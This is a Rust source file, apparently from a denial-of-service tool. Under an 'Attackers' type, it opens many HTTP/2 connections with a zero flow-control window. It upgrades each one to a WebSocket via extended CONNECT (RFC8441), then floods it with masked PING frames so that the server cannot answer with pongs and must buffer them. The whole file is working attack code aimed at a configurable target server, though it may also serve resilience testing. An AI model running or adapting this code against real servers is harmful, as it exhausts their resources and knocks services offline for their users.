//! WebSockets over HTTP/2 (RFC8441) that ping and give no window, so that no pong can be sent.

use std::thread;
use std::time::Instant;

use anyhow::{Context, Result, ensure};
use bytes::Bytes;
use h2::SendStream;
use h2::client::{ResponseFuture, SendRequest};
use h2::ext::Protocol;
use http::{Method, Request};

use super::{Attackers, PAUSE};
use crate::frame;
use crate::handshake;

/// Pings in a DATA frame.
const PINGS_IN_DATA: usize = 1000;

impl Attackers {
    /// A thread for each connection.
    pub(super) fn windows(&self) -> Result<()> {
        thread::scope(|scope| {
            let threads: Vec<_> = (0..self.conns)
                .map(|_| scope.spawn(|| self.window()))
                .collect();
            threads
                .into_iter()
                .try_for_each(|thread| thread.join().expect("no panic"))
        })
    }

    fn window(&self) -> Result<()> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        runtime.block_on(async {
            let mut has_attacked = false;
            while !self.is_over() {
                match self.ping_without_window(&mut has_attacked).await {
                    Err(error) if !has_attacked => return Err(error),
                    _ => tokio::time::sleep(PAUSE).await,
                }
            }
            Ok(())
        })
    }

    async fn ping_without_window(&self, has_attacked: &mut bool) -> Result<()> {
        let socket = tokio::net::TcpStream::connect(self.target.addr).await?;
        let (client, mut connection) = h2::client::Builder::new()
            .initial_window_size(0)
            .handshake(socket)
            .await?;
        let attack = async {
            let (response, stream) = self.open_stream(client).await?;
            let status = response.await?.status();
            ensure!(status == 200, "the handshake was refused: {status}");
            *has_attacked = true;
            self.send_pings(stream).await
        };
        // The connection does what all its streams need, and it ends with the attack.
        tokio::select! {
            result = attack => result,
            ended = &mut connection => Ok(ended?),
            () = self.until_over() => Ok(()),
        }
    }

    /// An extended CONNECT (RFC8441§4), which has to wait until the server's SETTINGS allow it (RFC8441§3).
    async fn open_stream(
        &self,
        client: SendRequest<Bytes>,
    ) -> Result<(ResponseFuture, SendStream<Bytes>)> {
        let mut client = client.ready().await?;
        let deadline = Instant::now() + handshake::OPEN_TIMEOUT;
        while !client.is_extended_connect_protocol_enabled() {
            ensure!(
                Instant::now() < deadline && !self.is_over(),
                "the server has no extended CONNECT"
            );
            tokio::time::sleep(PAUSE).await;
        }
        let (addr, path) = (self.target.addr, &self.target.path);
        let request = Request::builder()
            .method(Method::CONNECT)
            .uri(format!("http://{addr}{path}"))
            .header("sec-websocket-version", "13")
            .extension(Protocol::from_static("websocket"))
            .body(())?;
        Ok(client.send_request(request, false)?)
    }

    async fn send_pings(&self, mut stream: SendStream<Bytes>) -> Result<()> {
        let ping = frame::masked(frame::PING, &[]);
        let data = Bytes::from(ping.repeat(PINGS_IN_DATA));
        loop {
            stream.reserve_capacity(data.len());
            while stream.capacity() < data.len() {
                let more = std::future::poll_fn(|cx| stream.poll_capacity(cx)).await;
                more.context("the stream has ended")??;
            }
            stream.send_data(data.clone(), false)?;
            self.made(PINGS_IN_DATA);
        }
    }

    async fn until_over(&self) {
        while !self.is_over() {
            tokio::time::sleep(PAUSE).await;
        }
    }
}
